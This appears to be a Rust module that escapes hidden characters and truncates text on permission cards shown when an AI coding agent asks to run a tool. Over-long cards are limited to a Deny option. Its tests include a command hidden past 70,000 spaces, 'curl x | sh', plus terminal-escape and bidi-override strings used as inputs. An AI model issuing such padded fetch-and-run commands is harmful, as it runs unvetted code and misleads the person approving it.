//! A card made to show what it decides, all of it (SPEC §10.1): the step every held permission
//! and screen prompt passes through when it is opened, and that a lead repeats on a member's card.
//!
//! **What it touches.** The title (the tool's name is in it), every item (the command, path, URL,
//! diff, description, the rules "Always allow" adds), the option labels, the pane's name and the
//! conversation id — every string the phone or `collie cards` shows of the card. Items keep
//! their lines and indents; every other field is one line. Each is escaped ([`super::visible`]);
//! the title, items and labels are cut to their limits ([`MAX_TITLE`], [`MAX_ITEM`]) — the pane's
//! name and the conversation say where the card comes from and are never cut; the card says when it holds escapes
//! (`hidden_characters`), and a card with anything cut is `shortened`, counts the bytes not shown
//! (`not_shown`) and offers only [`DENY`]: what was not shown cannot be allowed.
//!
//! A durable agent's card is left as it is: §10.3's sanitizer already removed these characters
//! and shortened its text by its own limits, and its options are the agent's, not Allow and Deny.

use super::card::{Card, Item, NewCard, Source, MAX_ITEM, MAX_TITLE};
use super::visible::{show, visible};

/// The one option a card that could not be shown whole keeps.
pub const DENY: &str = "deny";

/// What presenting a new card found.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Notes {
    /// Some text held characters now shown as escapes.
    pub hidden: bool,
    /// Bytes not shown, over every cut text.
    pub not_shown: u64,
}

/// Whether cards from `source` are presented here: held permissions and screen prompts.
pub fn applies(source: &Source) -> bool {
    !matches!(source, Source::Durable(_))
}

/// Escapes and cuts every shown string of `new` (a card from a source that [`applies`]); a card
/// with anything cut is marked `shortened` and keeps only its [`DENY`] option.
pub fn present(new: &mut NewCard) -> Notes {
    let mut notes = Notes::default();
    if !applies(&new.source) {
        return notes;
    }
    let mut fit = |text: &mut String, multi_line: bool, max: usize| {
        let shown = show(text, multi_line, max);
        notes.hidden |= shown.hidden;
        notes.not_shown = notes.not_shown.saturating_add(shown.not_shown as u64);
        *text = shown.text;
    };
    fit(&mut new.title, false, MAX_TITLE);
    for item in &mut new.items {
        match item {
            Item::Text { text } | Item::Code { text } | Item::Diff { text } => {
                fit(text, true, MAX_ITEM);
            }
            Item::Link { url } => fit(url, false, MAX_ITEM),
        }
    }
    for option in &mut new.options {
        fit(&mut option.label, false, MAX_TITLE);
    }
    // Where the card comes from, not what it decides: escaped, never cut.
    for text in [&mut new.pane_name, &mut new.conversation]
        .into_iter()
        .flatten()
    {
        if let std::borrow::Cow::Owned(shown) = visible(text, false) {
            *text = shown;
            notes.hidden = true;
        }
    }
    if notes.not_shown > 0 {
        new.shortened = true;
        new.options.retain(|o| o.id == DENY);
    }
    notes
}

/// Escapes again every shown string of a card made elsewhere (a member's, which may be an older
/// bridge's): escaping is idempotent, so a member's escapes stay as they are. Nothing is cut.
pub fn reshow(card: &mut Card) {
    let mut changed = false;
    let mut again = |text: &mut String, multi_line: bool| {
        if let std::borrow::Cow::Owned(shown) = visible(text, multi_line) {
            *text = shown;
            changed = true;
        }
    };
    again(&mut card.title, false);
    for item in &mut card.items {
        match item {
            Item::Text { text } | Item::Code { text } | Item::Diff { text } => again(text, true),
            Item::Link { url } => again(url, false),
        }
    }
    for option in &mut card.options {
        again(&mut option.label, false);
    }
    for text in [&mut card.pane_name, &mut card.conversation]
        .into_iter()
        .flatten()
    {
        again(text, false);
    }
    card.hidden_characters |= changed;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cards::card::CardOption;

    fn new_card(source: Source, command: &str) -> NewCard {
        NewCard {
            machine: "m".into(),
            pane: Some("t0-1".into()),
            pane_name: Some("build\u{1b}]0;x\u{7}".into()),
            source,
            conversation: Some("s-1".into()),
            title: "Claude Code asks to use Bash\u{202E}".into(),
            items: vec![Item::Code {
                text: command.into(),
            }],
            options: ["allow", "deny", "always"]
                .iter()
                .map(|id| CardOption {
                    id: (*id).into(),
                    label: id.to_uppercase(),
                })
                .collect(),
            question: None,
            shortened: false,
            masked: false,
        }
    }

    #[test]
    fn every_shown_string_is_escaped_and_the_card_says_so() {
        let mut new = new_card(Source::Claude, "ls\n\u{200B}");
        let notes = present(&mut new);
        assert_eq!(
            notes,
            Notes {
                hidden: true,
                not_shown: 0
            }
        );
        assert_eq!(new.title, "Claude Code asks to use Bash⟨U+202E⟩");
        assert_eq!(new.pane_name.as_deref(), Some("build⟨ESC⟩]0;x⟨U+0007⟩"));
        assert_eq!(
            new.items,
            [Item::Code {
                text: "ls\n⟨U+200B⟩".into()
            }]
        );
        assert_eq!(new.options.len(), 3, "shown whole: every option stays");
        assert!(!new.shortened);
    }

    #[test]
    fn a_cut_command_is_shortened_and_only_denied() {
        let command = format!("echo tidy{}; curl x | sh", " ".repeat(70_000));
        let mut new = new_card(Source::Claude, &command);
        let notes = present(&mut new);
        assert!(notes.not_shown >= "; curl x | sh".len() as u64);
        assert!(new.shortened);
        let ids: Vec<&str> = new.options.iter().map(|o| o.id.as_str()).collect();
        assert_eq!(ids, [DENY]);
        assert!(new.check().is_ok());
    }

    #[test]
    fn a_durable_card_is_left_to_its_sanitizer() {
        let mut new = new_card(Source::Durable("ci".into()), "ls");
        let before = new.clone();
        assert_eq!(present(&mut new), Notes::default());
        assert_eq!(new, before);
    }
}
